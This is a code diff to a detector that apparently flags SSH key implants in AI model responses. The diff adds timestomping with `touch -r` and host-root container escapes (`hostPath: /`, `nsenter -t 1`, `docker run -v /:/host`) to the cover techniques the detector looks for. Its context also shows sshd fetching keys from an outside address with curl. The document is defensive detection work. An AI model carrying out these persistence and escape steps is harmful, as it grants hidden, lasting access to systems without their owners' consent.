@@ -5,7 +5,9 @@ What it catches
     network into an `authorized_keys` file, or sshd told to fetch every login's keys from a
     web address (`AuthorizedKeysCommand /usr/bin/curl -fsS https://198.51.100.8/keys/%u`).
     For model responses, only when combined with
-    hiding tracks (history or log wiping, hidden files).
+    hiding tracks (history or log wiping, hidden files, the key file's timestamps set back with
+    `touch -r`) or with a container given its node's root (`hostPath: /` in a privileged pod,
+    `nsenter -t 1`, `docker run -v /:/host`): the key planted on the node from inside.
 
 Why it is a redline (RL-PERSISTENCE)
     An implanted key is a permanent, password-less way back in for whoever holds it.
@@ -15,7 +17,8 @@ Example
 
 Allowed instead
     `ssh-copy-id`, or appending one's own `~/.ssh/id_ed25519.pub` on one's own account; keys
-    looked up in the directory (`AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u`).
+    looked up in the directory (`AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u`),
+    an admission policy that rejects privileged pods and `hostPath` mounts.
 """
 
 from __future__ import annotations
@@ -24,7 +27,10 @@ from redline.redlines.capabilities import Capabilities
 from redline.redlines.capabilities import Capability as Cap
 from redline.redlines.registry import Detection, detector, supported
 
-_COVER = (Cap.HIDE, Cap.HISTORY_WIPE, Cap.LOG_WIPE)
+_COVER = (Cap.HIDE, Cap.HISTORY_WIPE, Cap.LOG_WIPE, Cap.TIMESTOMP, Cap.HOST_ROOT_POD)
+"""What hides the key or plants it where its owner does not look: tracks covered, the key
+file's timestamps set back (`touch -r`), or the key written onto a node's own root from a
+container given it (`hostPath: /`, `nsenter -t 1`)."""
 
 
 @detector("ACT-SSH-KEY-IMPLANT", redline="RL-PERSISTENCE")
